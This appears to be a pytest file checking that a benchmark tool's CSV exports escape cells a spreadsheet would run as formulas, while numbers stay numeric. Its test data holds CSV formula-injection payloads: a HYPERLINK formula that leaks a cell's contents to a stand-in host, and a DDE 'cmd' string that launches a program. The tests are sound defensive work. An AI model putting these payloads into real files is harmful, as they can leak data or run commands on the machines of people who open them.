"""CSV exports are safe to open in a spreadsheet (issue 34, item 7).

Question ids, texts and evaluation inputs come from benchmark authors; a cell
starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula by spreadsheets (``=HYPERLINK(...)``, DDE). Written, such cells start
with ``'``; numbers stay numbers; the results read back exactly.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from _support.factories import make_result

from verifleet.orchestrator import read_results, write_results
from verifleet.schemas import VerificationResult

LEADS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://127.0.0.1:9/?leak="&A1,"open me")'


def _hostile(i: int, lead: str) -> VerificationResult:
    result = make_result(f"{lead}q{i}")
    meta = result.metadata.model_copy(update={"question_text": lead + PAYLOAD})
    return result.model_copy(
        update={"metadata": meta, "evaluation_input": lead + "cmd|' /C calc'!A0"}
    )


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_formula_leading_text_cells_are_written_as_text(tmp_path: Path) -> None:
    results = [_hostile(i, lead) for i, lead in enumerate(LEADS)]
    # The control: the same cells without a formula lead are written as given.
    results.append(_hostile(99, ""))
    path = tmp_path / "out.csv"
    write_results(results, path)
    rows = _rows(path)
    assert len(rows) == len(results)
    for row, lead in zip(rows, [*LEADS, ""], strict=True):
        for column in ("question_id", "question_text", "evaluation_input"):
            cell = row[column]
            if lead:
                assert cell.startswith("'" + lead), (column, cell)
            else:
                assert not cell.startswith("'"), (column, cell)
            assert not cell.startswith(tuple(LEADS)), (column, cell)
    # pandas reads the same cells (what a notebook user sees).
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert frame["question_text"].str.startswith(tuple(LEADS)).sum() == 0
    assert frame["question_text"].iloc[0] == "'=" + PAYLOAD
    # Reading the file back gives the exact results, leads and all.
    back = read_results(path)
    assert [r.metadata.question_id for r in back] == [r.metadata.question_id for r in results]
    assert back[0].metadata.question_text == "=" + PAYLOAD
    assert back[0].evaluation_input == "=cmd|' /C calc'!A0"


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    result = make_result("q1")
    template = result.template.model_copy(
        update={
            "verify_granular_result": -0.5,
            "usage_metadata": {
                "total": {
                    "input_tokens": 3,
                    "output_tokens": 4,
                    "total_tokens": 7,
                    "cost_usd": 0.25,
                }
            },
        }
    )
    path = tmp_path / "n.csv"
    write_results([result.model_copy(update={"template": template})], path)
    row = _rows(path)[0]
    # A negative number is a number, not a formula: written as it is.
    assert row["verify_granular_result"] == "-0.5"
    assert row["total_tokens"] == "7" and row["cost_usd"] == "0.25"
    assert row["replicate"] == "1"
    frame = pd.read_csv(path)
    assert frame["verify_granular_result"].iloc[0] == pytest.approx(-0.5)
    assert frame["total_tokens"].iloc[0] == 7
